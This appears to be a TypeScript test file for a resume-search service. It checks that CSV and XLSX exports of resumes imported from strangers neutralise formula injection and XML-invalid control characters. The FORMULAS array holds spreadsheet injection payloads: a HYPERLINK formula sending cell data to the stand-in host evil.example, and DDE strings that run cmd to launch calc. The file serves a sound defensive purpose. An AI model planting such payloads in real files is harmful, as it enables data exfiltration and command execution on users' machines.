import { randomUUID } from 'node:crypto';
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { inflateRawSync } from 'node:zlib';
import { SaxesParser } from 'saxes';
import { beforeAll, describe, expect, it } from 'vitest';
import { createTestApp, registeredMember, type TestClient } from '../../../../test/helpers.ts';
import { createResume, setFlags } from '../../../../test/factories.ts';
import type { BuiltApp } from '../../../app.ts';
import { importResumes } from '../import/import.service.ts';
import { toCsv, toXlsx } from '../../../lib/spreadsheet.ts';

/*
 * Resume text is written by strangers (imports, hh.ru): an export must open in Excel and LibreOffice as
 * plain text, never as a formula, and never as a file the spreadsheet refuses to read.
 */

const run = randomUUID().slice(0, 8);
const marker = `враждебн${run.replace(/\d/g, '')}`;
const FORMULAS = [
  // No scheme: a link in a resume's text is masked for viewers, and the formula is what is tested here.
  '=HYPERLINK("evil.example/?x="&A1;"жми")',
  "+7-495-cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@(1+1)*cmd|' /C calc'!A0", // «@SUM» would read as a Telegram handle and be masked
];
/** XML-invalid characters a file may carry (PostgreSQL refuses U+0000 and lone surrogates, so those are tested below without it). */
const CONTROL = '\u0001\u0008\u000B\u000C\u000E\u001F\uFFFE\uFFFF';
// biome-ignore lint/suspicious/noControlCharactersInRegex: matching control characters is the point
const XML_INVALID = /[\u0000-\u0008\u000B\u000C\u000E-\u001F\uFFFE\uFFFF]|[\uD800-\uDFFF]/u;

/** File names and texts inside a ZIP, read through the central directory (as Excel does). */
function unzip(buf: Buffer): Map<string, string> {
  const end = buf.lastIndexOf(Buffer.from([0x50, 0x4b, 0x05, 0x06]));
  expect(end).toBeGreaterThan(0);
  const count = buf.readUInt16LE(end + 10);
  let at = buf.readUInt32LE(end + 16);
  const files = new Map<string, string>();
  for (let i = 0; i < count; i++) {
    expect(buf.readUInt32LE(at)).toBe(0x02014b50);
    const size = buf.readUInt32LE(at + 20);
    const nameLength = buf.readUInt16LE(at + 28);
    const extra = buf.readUInt16LE(at + 30) + buf.readUInt16LE(at + 32);
    const local = buf.readUInt32LE(at + 42);
    const name = buf.subarray(at + 46, at + 46 + nameLength).toString('utf8');
    const start = local + 30 + buf.readUInt16LE(local + 26) + buf.readUInt16LE(local + 28);
    files.set(name, inflateRawSync(buf.subarray(start, start + size)).toString('utf8'));
    at += 46 + nameLength + extra;
  }
  return files;
}

/** A strict XML 1.0 parse (saxes rejects every character XML forbids); returns the text of each <c>. */
function parseSheet(xml: string): { ref: string; style?: string; type?: string; text: string }[] {
  const cells: { ref: string; style?: string; type?: string; text: string }[] = [];
  const parser = new SaxesParser();
  let cell: (typeof cells)[number] | undefined;
  parser.on('error', (err) => {
    throw err;
  });
  parser.on('opentag', (tag) => {
    if (tag.name === 'c')
      cell = {
        ref: String(tag.attributes.r),
        style: tag.attributes.s as string | undefined,
        type: tag.attributes.t as string | undefined,
        text: '',
      };
  });
  parser.on('text', (t) => {
    if (cell) cell.text += t;
  });
  parser.on('closetag', (tag) => {
    if (tag.name === 'c' && cell) {
      cells.push(cell);
      cell = undefined;
    }
  });
  parser.write(xml).close();
  return cells;
}

/** Every XML part of the package parses. */
function parseAll(files: Map<string, string>) {
  for (const [name, xml] of files) {
    const parser = new SaxesParser();
    parser.on('error', (err) => {
      throw new Error(`${name}: ${err.message}`);
    });
    parser.write(xml).close();
  }
}

let built: BuiltApp;
let member: TestClient;
beforeAll(async () => {
  built = await createTestApp();
  const hostile = (i: number, title: string, company: string, position: string) => ({
    id: `${run}-hostile-${i}`,
    title,
    last_name: `${CONTROL}=1+2`,
    first_name: '@Мария',
    area: { name: 'Москва' },
    experience: [{ company, position, start: '2019-03-01', end: null }],
    skill_set: [marker],
  });
  const dir = mkdtempSync(path.join(tmpdir(), 'hr-export-'));
  const file = path.join(dir, 'hostile.jsonl');
  const lines = [
    hostile(1, `${FORMULAS[0]} ${marker}`, FORMULAS[1] as string, FORMULAS[2] as string),
    hostile(2, `${FORMULAS[3]} ${marker}`, `ООО «Контр${CONTROL}оль»`, `Логист${CONTROL}`),
    hostile(3, `${CONTROL}\t=1+1 ${marker}`, 'ООО «Обычная»', 'Кладовщик'),
  ];
  writeFileSync(file, `${lines.map((l) => JSON.stringify(l)).join('\n')}\n`);
  const summary = await importResumes(built.ctx.database, file);
  expect(summary.imported + summary.updated).toBe(3);
  // Leading tab and CR survive no import (it trims); the factory writes them as a buggy source could.
  await createResume(built.ctx.database, { title: `\t=2+2 ${marker}`, lastCompany: '\r=3+3', skills: [marker] });
  const m = await registeredMember(built.app);
  await setFlags(built.ctx.database, m.email, ['mass_search', 'open_contact']);
  member = m.client;
});

const download = async (format: 'csv' | 'xlsx') => {
  const res = await built.app.inject({
    method: 'GET',
    url: `/api/resume/search/export?format=${format}&text=${encodeURIComponent(marker)}`,
    headers: { cookie: [...member.cookies].map(([k, v]) => `${k}=${v.value}`).join('; ') },
  });
  expect(res.statusCode).toBe(200);
  return res.rawPayload;
};

/** Splits our CSV (semicolons, RFC 4180 quotes) into rows of cell values. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [[]];
  let cell = '';
  let quoted = false;
  const endCell = () => {
    (rows.at(-1) as string[]).push(cell);
    cell = '';
  };
  for (let i = 0; i < text.length; i++) {
    const ch = text[i] as string;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ';') endCell();
    else if (ch === '\r' && text[i + 1] === '\n') {
      endCell();
      rows.push([]);
      i++;
    } else cell += ch;
  }
  rows.pop();
  return rows;
}

describe('export of hostile cells', () => {
  it('CSV: every cell that would start a formula begins with a quote; no XML-invalid character is left', async () => {
    const bytes = await download('csv');
    const text = bytes.toString('utf8');
    expect(text.startsWith('\uFEFF')).toBe(true);
    expect(text).not.toMatch(XML_INVALID);
    const rows = parseCsv(text.slice(1));
    expect(rows.length).toBe(5);
    const cells = rows.slice(1).flat();
    for (const c of cells) expect(c).not.toMatch(/^[=+\-@\t\r]/);
    expect(cells).toContain(`'${FORMULAS[0]} ${marker}`);
    expect(cells).toContain(`'${FORMULAS[1]}`);
    expect(cells).toContain(`'${FORMULAS[2]}`);
    expect(cells).toContain(`'${FORMULAS[3]} ${marker}`);
    expect(cells).toContain("'=1+2"); // the control characters went first, then the quote
    expect(cells).toContain("'@Мария");
    expect(cells).toContain(`'\t=1+1 ${marker}`);
    expect(cells).toContain(`'\t=2+2 ${marker}`);
    expect(cells).toContain("'\r=3+3");
    expect(cells).toContain('ООО «Контроль»');
  });

  it('XLSX: unzips, every part parses as XML, formula-like text is a quote-prefixed string', async () => {
    const bytes = await download('xlsx');
    const files = unzip(bytes);
    expect([...files.keys()].sort()).toEqual([
      '[Content_Types].xml',
      '_rels/.rels',
      'xl/_rels/workbook.xml.rels',
      'xl/styles.xml',
      'xl/workbook.xml',
      'xl/worksheets/sheet1.xml',
    ]);
    parseAll(files);
    expect(files.get('xl/styles.xml')).toMatch(/<cellXfs count="3">.*<xf [^>]*quotePrefix="1"/);
    const cells = parseSheet(files.get('xl/worksheets/sheet1.xml') as string).filter((c) => !/^[A-Z]+1$/.test(c.ref));
    expect(cells.length).toBeGreaterThan(20);
    for (const c of cells) {
      expect(c.text).not.toMatch(XML_INVALID);
      if (/^[=+\-@\t\r]/.test(c.text)) expect(c).toMatchObject({ type: 'inlineStr', style: '2' });
      else expect(c.type === 'inlineStr' || /^-?\d+(\.\d+)?$/.test(c.text)).toBe(true);
    }
    const texts = cells.map((c) => c.text);
    expect(texts).toContain(`${FORMULAS[0]} ${marker}`);
    expect(texts).toContain('=1+2');
    expect(texts).toContain('ООО «Контроль»');
    expect(texts).toContain(`\t=2+2 ${marker}`);
    expect(files.get('xl/worksheets/sheet1.xml')).not.toMatch(/<f>|<f /);
  });

  it('characters no database keeps (U+0000, lone surrogates) are dropped by the writers too', () => {
    const row = ['a\u0000b', 'c\uD800d', 'e\uDFFFf', '\u0000=1', '😀 ok', '\uD83D', 42, Number.NaN, null];
    const csv = toCsv(['h'], [row]).toString('utf8');
    expect(csv).toBe("\uFEFFh\r\nab;cd;ef;'=1;😀 ok;;42;;\r\n");
    const sheet = unzip(toXlsx('Лист\u0000', ['h'], [row])).get('xl/worksheets/sheet1.xml') as string;
    const cells = parseSheet(sheet).map((c) => c.text);
    expect(cells).toEqual(['h', 'ab', 'cd', 'ef', '=1', '😀 ok', '42']);
  });
});
